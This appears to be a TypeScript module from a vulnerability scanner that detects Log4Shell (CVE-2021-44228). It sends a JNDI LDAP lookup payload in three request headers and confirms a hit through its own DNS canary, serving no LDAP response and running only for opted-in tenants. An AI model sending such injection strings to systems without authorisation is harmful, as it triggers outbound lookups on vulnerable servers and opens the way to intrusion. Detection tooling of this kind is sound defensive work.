/**
 * Log4Shell (CVE-2021-44228), confirmed by DNS only: the probe sends `${jndi:ldap://${:-a}${:-b}.<token>.<zone>/x}`
 * and counts a hit only when Surveyor's own callback listener sees a query for `ab.<token>.<zone>`:
 * joining the two halves takes a real Log4j lookup, so a WAF or app that echoes or resolves the raw
 * text does not count. The listener answers nothing useful (no LDAP, no address), and no third-party
 * callback service is ever used. Runs only for tenants that opted in.
 */
import { randomBytes } from 'node:crypto';
import type { ExternalFinding } from '../scan-types.ts';
import { externalFinding } from '../external-finding.ts';
import type { Log4ShellCanary, ScanSettings } from '../scan-settings.ts';
import { fetchPath, type Service } from './fetch-path.ts';

const WAIT_MS = 1500;
const HEADERS = ['x-api-version', 'referer', 'x-forwarded-for'];

export async function checkLog4Shell(
  service: Service,
  canary: Log4ShellCanary,
  settings: ScanSettings,
): Promise<ExternalFinding | undefined> {
  const half = () => randomBytes(3).toString('hex');
  const [a, b, token] = [half(), half(), randomBytes(6).toString('hex')];
  const payload = `\${jndi:ldap://\${:-${a}}\${:-${b}}.${token}.${canary.zone}/s}`;
  const expected = `${a}${b}.${token}.${canary.zone}`;
  await fetchPath(service, '/', settings, Object.fromEntries(HEADERS.map((h) => [h, payload]))).catch(
    () => undefined,
  );
  if (!(await canary.waitFor(expected, canary.waitMs ?? WAIT_MS))) return undefined;
  return externalFinding('log4shell', service.host, service.port, {
    cve: 'CVE-2021-44228',
    callback: 'dns',
    headers: HEADERS,
  });
}
